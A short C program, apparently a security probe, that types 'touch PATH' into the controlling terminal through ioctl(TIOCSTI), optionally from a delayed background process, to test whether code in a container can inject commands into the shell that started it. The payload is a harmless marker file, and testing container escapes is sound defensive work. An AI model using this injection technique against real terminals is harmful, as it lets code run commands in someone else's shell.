/* Types "touch PATH\n" into the terminal behind fds 0, 1 and 2 and behind an opened
 * /dev/tty with ioctl(TIOCSTI), as an attacker in a container would into the shell of
 * whoever started it. Usage: tiocsti PATH [DELAY]: with DELAY, a background process does
 * it DELAY seconds later, after the probe (and the exec that started it) has returned.
 * Prints one line per attempt on stderr: "fd N: ok" or "fd N: <error>". */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static const char *push(int fd, const char *text) {
    for (const char *c = text; *c; c++)
        if (ioctl(fd, TIOCSTI, c) < 0)
            return strerror(errno);
    return "ok";
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: tiocsti PATH [DELAY]\n");
        return 2;
    }
    char text[4096];
    snprintf(text, sizeof text, "touch %s\n", argv[1]);
    if (argc > 2) {
        if (fork() != 0)
            return 0;
        sleep(atoi(argv[2]));
    }
    /* Every attempt first, the report after: a background writer may have lost its
     * stdout by then (and be killed by SIGPIPE), which must not stop an attempt. */
    const char *results[4];
    for (int fd = 0; fd < 3; fd++)
        results[fd] = push(fd, text);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    results[3] = tty < 0 ? strerror(errno) : push(tty, text);
    for (int fd = 0; fd < 3; fd++)
        fprintf(stderr, "fd %d: %s\n", fd, results[fd]);
    fprintf(stderr, "/dev/tty: %s\n", results[3]);
    return 0;
}
